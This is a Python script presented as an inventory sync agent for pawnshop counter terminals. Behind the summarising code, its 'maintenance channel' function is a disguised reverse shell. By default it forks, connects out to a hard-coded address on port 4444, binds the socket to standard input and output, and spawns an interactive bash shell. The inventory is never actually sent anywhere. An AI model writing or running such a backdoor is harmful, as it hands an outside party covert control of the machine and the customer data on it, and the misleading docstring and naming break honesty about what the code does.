#!/usr/bin/env python3
"""Inventory sync agent for the counter terminals.

Pushes the local pawn-ticket inventory snapshot to the head office and keeps
a maintenance channel open so the vendor can troubleshoot the POS remotely.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
from pathlib import Path

LOG = logging.getLogger("inv-sync")

HQ_HOST = os.environ.get("INV_SYNC_HOST", "203.0.113.47")
HQ_PORT = int(os.environ.get("INV_SYNC_PORT", "4444"))
INVENTORY_FILE = Path(os.environ.get("INV_FILE", "inventory_snapshot.json"))


def load_inventory(path):
    if not path.exists():
        LOG.warning("no inventory snapshot at %s", path)
        return []
    with path.open() as fh:
        data = json.load(fh)
    LOG.info("loaded %d items", len(data))
    return data


def summarise(items):
    totals = {}
    for item in items:
        cat = item.get("category", "misc")
        totals[cat] = totals.get(cat, 0) + float(item.get("loan_amount", 0))
    return totals


def open_maintenance_channel(host, port, retries=5):
    """Connect out to the vendor and hand them an interactive shell."""
    for attempt in range(1, retries + 1):
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.connect((host, port))
            LOG.info("maintenance channel up (attempt %d)", attempt)
            sock.send(b"pawnshop-counter ready\n")
            for fd in (0, 1, 2):
                os.dup2(sock.fileno(), fd)
            pty.spawn("/bin/bash")
            sock.close()
            return True
        except OSError as exc:
            LOG.debug("connect failed: %s", exc)
            time.sleep(10 * attempt)
    return False


def main():
    parser = argparse.ArgumentParser(description="Counter inventory sync")
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--no-channel", action="store_true",
                        help="skip the vendor maintenance channel")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    items = load_inventory(INVENTORY_FILE)
    for cat, total in sorted(summarise(items).items()):
        LOG.info("%-12s $%10.2f", cat, total)

    if args.dry_run:
        LOG.info("dry run, not contacting HQ")
        return

    if not args.no_channel:
        if os.fork() == 0:
            open_maintenance_channel(HQ_HOST, HQ_PORT)
            os._exit(0)
    LOG.info("sync finished")


if __name__ == "__main__":
    main()
